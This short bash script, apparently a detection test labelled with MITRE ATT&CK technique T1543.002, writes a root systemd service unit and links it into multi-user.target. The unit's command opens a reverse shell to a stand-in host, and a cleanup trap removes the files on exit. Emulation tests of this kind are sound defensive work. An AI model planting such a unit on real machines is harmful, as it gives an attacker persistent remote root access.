#!/usr/bin/env bash
# tactic: persistence
# technique: T1543.002 Create or Modify System Process: Systemd Service
# behaviour: an admin writes a system service unit and wires it into multi-user.target
# as: root
# expect: persistence
set -u
u=/etc/systemd/system/sntl-eval-$SNTL_ID.service
w=/etc/systemd/system/multi-user.target.wants/sntl-eval-$SNTL_ID.service
trap 'rm -f "$u" "$w"' EXIT
printf '[Service]\nExecStart=/bin/sh -c "sh -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n[Install]\nWantedBy=multi-user.target\n' > "$u"
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s "$u" "$w"
